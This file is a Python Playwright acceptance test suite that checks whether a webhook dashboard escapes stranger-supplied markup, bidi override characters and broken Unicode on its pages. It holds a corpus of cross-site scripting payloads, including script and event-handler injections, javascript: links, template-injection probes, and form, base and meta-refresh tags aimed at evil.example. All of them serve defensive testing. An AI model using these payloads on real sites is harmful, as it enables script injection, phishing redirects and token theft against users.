"""Strangers' text stays text: markup in every place where a stranger can write, looked at in a real browser."""

from __future__ import annotations

import json
import re
import typing

import httpx
import pytest
from playwright.sync_api import Locator, expect

from tests.acceptance.receiver import Answer, Arrival
from tests.dashboard.conftest import Desk, Person, Shop
from tests.dashboard.equipment import call_source, noted, quarantined
from tests.waiting import wait_until

# Each would set `window.owned`, load something from elsewhere, or break out of the place where it stands.
CORPUS = (
    "<script>window.owned = 1</script>",
    "<img src=x onerror=window.owned=1>",
    "'\"><svg onload=window.owned=1>",
    "</textarea><script>window.owned = 1</script>",
    "</pre></code></title><script>window.owned = 1</script>",
    "javascript:window.owned=1",
    "{{ 7331 * 7331 }}{% raw %}${7331*7331}",
    '" onmouseover="window.owned=1" x="',
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<a href=javascript:window.owned=1 data-panel>x</a>",
    "<div hx-get='/dashboard/audit' hx-trigger='load' hx-on::load='window.owned=1'>",
    "<!--<style>*{display:none}</style>",
    "]]><x>&lt;b&gt;\u202e\u0000".replace("\u0000", ""),
    "<form action=https://evil.example><input name=token>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)
EVERYTHING = " ".join(CORPUS)


@pytest.fixture(scope="module")
def hostile(shop: Shop) -> dict[str, str]:
    """An application whose every word was written by somebody hostile; paths of its pages."""

    def decide(arrival: Arrival) -> Answer:
        if arrival.path.startswith("/hostile"):
            return Answer(
                500, headers=(("content-type", "text/html"), ("x-evil", CORPUS[0]), ("server", CORPUS[1])), body=EVERYTHING.encode()
            )
        return shop.behaviour(arrival)

    shop.receiver.decide = decide
    app = shop.server.make("/app", {"name": EVERYTHING, "metadata": {CORPUS[0]: CORPUS[1], "x": EVERYTHING}})["id"]
    endpoint = shop.server.make(
        f"/app/{app}/endpoint",
        {
            "url": f"{shop.receiver.url}/hostile?x=<script>window.owned=1</script>&y='\"><img/src=x/onerror=window.owned=1>",
            "description": EVERYTHING,
            "metadata": {"m": EVERYTHING},
            "headers": {"x-text": CORPUS[2]},
        },
    )["id"]
    schema = {
        "title": EVERYTHING,
        "properties": {text: {"type": "string", "examples": [text]} for text in CORPUS},
        "description": CORPUS[3],
    }
    shop.server.make("/event-type", {"name": "hostile.type", "description": EVERYTHING, "schemas": {CORPUS[4]: schema}})
    payload = {text: [text, {text: text}] for text in CORPUS} | {"all": EVERYTHING}
    sent = httpx.post(
        f"{shop.server.url}/api/v1/app/{app}/msg",
        content=json.dumps({"eventType": "hostile.type", "payload": payload}).encode(),
        headers={"authorization": f"Bearer {shop.server.token}"},
        trust_env=False,
    ).json()
    raw = shop.server.make(
        f"/app/{app}/msg",
        {
            "eventType": "hostile.type",
            "payload": {},
            "transformationsParams": {"rawPayload": EVERYTHING, "headers": {"content-type": "text/html"}},
        },
    )
    attempts: list[dict[str, typing.Any]] = wait_until(
        lambda: shop.server.call("GET", f"/app/{app}/attempt/msg/{sent['id']}")[1]["data"], what="an attempt"
    )
    # A second one, for the page that compares them.
    assert shop.server.call("POST", f"/app/{app}/msg/{sent['id']}/endpoint/{endpoint}/resend")[0] == 202
    wait_until(lambda: len(shop.server.call("GET", f"/app/{app}/attempt/msg/{sent['id']}")[1]["data"]) > 1, what="two attempts")
    one, attempt = f"/apps/{app}/messages/{sent['id']}", attempts[0]["id"]
    return {
        "applications": "/apps",
        "application": f"/apps/{app}",
        "its form": f"/apps/{app}/edit",
        "its end": f"/apps/{app}/delete",
        "endpoints": f"/apps/{app}/endpoints",
        "endpoint": f"/apps/{app}/endpoints/{endpoint}",
        "replay": f"/apps/{app}/endpoints/{endpoint}/replay?what={CORPUS[1]}",
        "order": f"/apps/{app}/endpoints/{endpoint}/ordering",
        "endpoint form": f"/apps/{app}/endpoints/{endpoint}/edit",
        "endpoint attempts": f"/apps/{app}/endpoints/{endpoint}/attempts",
        "messages": f"/apps/{app}/messages",
        "response": f"{one}/attempts/{attempt}?tab=response",
        "request": f"{one}/attempts/{attempt}?tab=request",
        "comparison": f"{one}/attempts/{attempt}?tab=compare",
        "payload": f"{one}?tab=payload",
        "raw payload": f"{one}?tab=payload&view=raw",
        "text payload": f"/apps/{app}/messages/{raw['id']}?tab=payload",
        "explain": f"{one}?tab=explain",
        "live": f"/apps/{app}/messages/live",
        "search": f"/find?q={CORPUS[0]}",
        "filters": f"/apps/{app}/messages?tag={CORPUS[2]}&channel={CORPUS[1]}&type={CORPUS[3]}",
        "audit": f"/audit?object={CORPUS[2]}",
        "found": f"/apps/{app}/messages?q=onerror window.owned",
        "found everywhere": f"/search?q={CORPUS[0]}",
        "not found": f"/search?q={CORPUS[1]} zebra",
        "event types": f"/event-types?q=hostile&show={CORPUS[2]}",
        "event type": "/event-types/hostile.type",
        "raw schema": "/event-types/hostile.type?view=raw",
        "event type form": "/event-types/hostile.type/edit",
        "new event type": f"/new-event-type?name={CORPUS[3]}",
        **_set_up(shop),
        **_arrived(shop, app),
    }


def _arrived(shop: Shop, app: str) -> dict[str, str]:
    """Paths of pages about what a hostile provider sent, twice."""
    given = {"name": EVERYTHING[:100], "type": "generic-webhook", "deduplication": {"by": ["json:id"]}, "eventTypeAt": ["json:type"]}
    source = shop.server.make(f"/app/{app}/source", given)
    for text in (*CORPUS, *CORPUS):
        body = json.dumps({"id": text, "type": text}).encode()
        query = {"q": text, "access_token": "hidden"}
        assert httpx.post(source["ingestUrl"], content=body, params=query, trust_env=False).status_code == 200
    wait_until(lambda: len(noted(shop.server, app, source["id"])) == len(CORPUS), what="the journal is written")
    entry = noted(shop.server, app, source["id"])[-1]
    assert (entry["providerEventId"], entry["providerEventType"]) == (CORPUS[0], CORPUS[0])
    return {
        "source": f"/sources/{source['id']}",
        "journal": f"/sources/{source['id']}/arrivals?outcome=duplicate",
        "journal of a message": f"/sources/{source['id']}/arrivals?message={CORPUS[2]}",
        "received": f"/apps/{app}/messages/{entry['duplicateOf']}",
    }


def _set_up(shop: Shop) -> dict[str, str]:
    """Paths of pages with hostile names of tokens, descriptions of operational endpoints, and settings."""
    person = Person(shop.url).log_in()
    # As long as a name may be.
    assert person.act("/tokens", name=(CORPUS[2] + CORPUS[1])[:100], expiry="").status_code == 200
    token = re.findall(r'href="/dashboard(/tokens/key_\w+/revoke)"', person.get("/tokens").text)[0]
    assert "&lt;img src=x onerror=" in person.get("/settings").text, "the path of the database is hostile too"
    person.close()
    told = shop.server.make("/operational-webhook/endpoint", {"url": "https://example.com/", "description": EVERYTHING, "disabled": True})
    shop.server.make("/stream", {"name": EVERYTHING, "metadata": {CORPUS[1]: CORPUS[2]}})
    return {
        "streams": "/streams",
        "tokens": "/tokens",
        "end of a token": token,
        "operational": "/operational",
        "operational endpoint": f"/operational/{told['id']}",
        "operational form": f"/operational/{told['id']}/edit",
        "settings": "/settings",
        "some settings": f"/settings?q={CORPUS[1]}&which={CORPUS[0]}",
        "queue": "/queue",
    }


def in_order(cell: Locator) -> bool:
    """Do the characters of the last text in it stand from left to right?"""
    lefts: list[float] = cell.evaluate(
        """element => {
            const text = element.ownerDocument.createTreeWalker(element, NodeFilter.SHOW_TEXT), range = document.createRange();
            let last = null;
            while (text.nextNode()) if (/\\w/.test(text.currentNode.data)) last = text.currentNode;
            const word = last.data.trim(), from = last.data.indexOf(word);
            return [...word].map((_, n) => {
                range.setStart(last, from + n);
                range.setEnd(last, from + n + 1);
                return range.getBoundingClientRect().left;
            });
        }"""
    )
    return len(lefts) > 1 and lefts == sorted(lefts)


def test_a_name_that_turns_around_what_follows_is_marked_and_stays_as_it_is(shop: Shop, desk: Desk) -> None:
    name = "abc\u202edefgh"
    app = shop.server.make("/app", {"name": name})["id"]
    for path in (f"/apps/{app}", "/apps"):
        page = desk.go(path)
        shown = page.locator("h1, a", has_text="defgh").last
        assert shown.locator(".turning").get_attribute("data-number") == "U+202E"
        assert in_order(shown), path
        assert "U+202E" in page.title() or path == "/apps"
    assert desk.go(f"/apps/{app}/edit").locator("[name=name]").input_value() == name
    assert shop.server.call("DELETE", f"/app/{app}")[0] == 204


def test_halves_of_characters_and_marks_that_turn_text_around_break_no_page(shop: Shop, person: Person) -> None:
    body = json.dumps({"\udfff": "\ud800"}).replace("800", "800\u202efdp")
    raw = {"rawPayload": body, "headers": {"content-type": "application/json"}}
    app = shop.server.make("/app", {"name": "Halves"})["id"]
    shop.server.make(f"/app/{app}/endpoint", {"url": f"{shop.receiver.url}/halves"})
    sent = shop.server.make(f"/app/{app}/msg", {"eventType": "order.created", "payload": {}, "transformationsParams": raw})["id"]
    wait_until(lambda: shop.server.call("GET", f"/app/{app}/attempt/msg/{sent}?limit=1")[1]["data"], what="an attempt")
    source = shop.server.make(f"/app/{app}/source", {"name": "Halves", "type": "stripe", "secrets": ["whsec_halves"]})
    assert call_source(source["ingestUrl"], body.encode(), "t=1,v1=00") == 401
    refused = quarantined(shop.server, app, source["id"])[0]["id"]
    message = f"/apps/{app}/messages/{sent}"
    for path in (f"{message}?tab=payload", f"{message}?tab=request", f"/sources/{source['id']}/quarantine/{refused}"):
        page = person.get(path)
        assert page.status_code == 200, path
        assert "\\udfff" in page.text and "\\ud800\\u202efdp" in page.text, path
    # What others count in this shop stays as it was.
    assert shop.server.call("DELETE", f"/app/{app}")[0] == 204


@pytest.mark.parametrize("where", ["document", "query", "token", "event type"])
def test_markup_in_what_is_refused_is_shown_and_does_nothing(shop: Shop, person: Person, where: str) -> None:
    """Pages that answer 422 to what somebody else may have put into a link or a file."""
    written = {
        "document": lambda: person.act("/import-event-types", document=f"{EVERYTHING}: [", do="preview"),
        "query": lambda: person.get("/search", params={"q": f"evil:{CORPUS[1]}"}),
        "token": lambda: person.act("/tokens", name=EVERYTHING, expiry=CORPUS[0]),
        "event type": lambda: person.act("/event-types", name=EVERYTHING, description=EVERYTHING, version=CORPUS[4], schema=EVERYTHING),
    }
    answer = written[where]()
    assert answer.status_code == 422
    for text in (CORPUS[0], "<img src=x", "<svg onload", "<iframe", "<base href=https", "<form action=https"):
        assert text not in answer.text
    assert "&lt;img src=x" in answer.text


def test_a_preview_of_a_hostile_document_does_nothing(shop: Shop, desk: Desk) -> None:
    schema = {"title": EVERYTHING, "type": "object"}
    content = {"application/json": {"schema": schema}}
    hook = {"post": {"description": EVERYTHING, "requestBody": {"content": content}}}
    page = desk.go("/import-event-types")
    page.locator("#f-document").fill(json.dumps({"openapi": "3.1.0", "webhooks": {"hostile.import": hook}}))
    page.get_by_role("button", name="Show what would change").click()
    page.wait_for_selector("#preview")
    assert CORPUS[0] in page.locator("tbody").inner_text()
    assert page.evaluate("window.owned") is None
    assert page.evaluate("document.querySelectorAll('main iframe, main img, main script, main svg[onload], main base').length") == 0


def test_markup_of_strangers_is_shown_and_does_nothing(shop: Shop, desk: Desk, hostile: dict[str, str]) -> None:
    for name, path in hostile.items():
        page = desk.go(path)
        assert page.evaluate("window.owned") is None, name
        # Nothing that was written became an element with a will of its own.
        made = page.evaluate(
            "document.querySelectorAll('iframe, base, meta[http-equiv], svg[onload], img[onerror], [onmouseover], [onerror], "
            'script:not([src]), a[href^="javascript:"], form[action*=evil], style\').length'
        )
        assert made == 0, name
        assert page.url.startswith(shop.url), name
        assert str(7331 * 7331) not in page.title(), name


def test_markup_of_strangers_does_nothing_in_what_scripts_show(shop: Shop, desk: Desk, hostile: dict[str, str]) -> None:
    page = desk.go(hostile["live"])
    expect(page.locator("[data-state]")).to_have_text("Live")
    app = hostile["application"].removeprefix("/apps/")
    shop.server.make(f"/app/{app}/msg", {"eventType": "hostile.type", "payload": {"x": EVERYTHING}})
    page.wait_for_selector("[data-rows] .badge.dead")
    page.locator("[data-rows] tr", has=page.locator(".badge.dead")).first.locator("a.open").dispatch_event("click")
    page.wait_for_selector("#panel .viewer, #panel .first")
    assert page.evaluate("window.owned") is None
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    page.keyboard.type("<img")
    page.wait_for_selector("#palette .results a")
    page.locator("#palette input").fill("<script>window.owned = 1</script>")
    page.wait_for_selector("#palette .results a")
    page.keyboard.press("Escape")
    page.locator(".switcher > summary").click()
    page.wait_for_selector(".switcher .menu a:nth-child(3)")
    assert page.evaluate("window.owned") is None
    search = desk.go(hostile["payload"]).locator("[data-search]")
    search.fill("onerror=window")
    page.wait_for_selector(".json mark")
    assert page.evaluate("window.owned") is None and page.evaluate("document.querySelectorAll('.json img, .json script').length") == 0
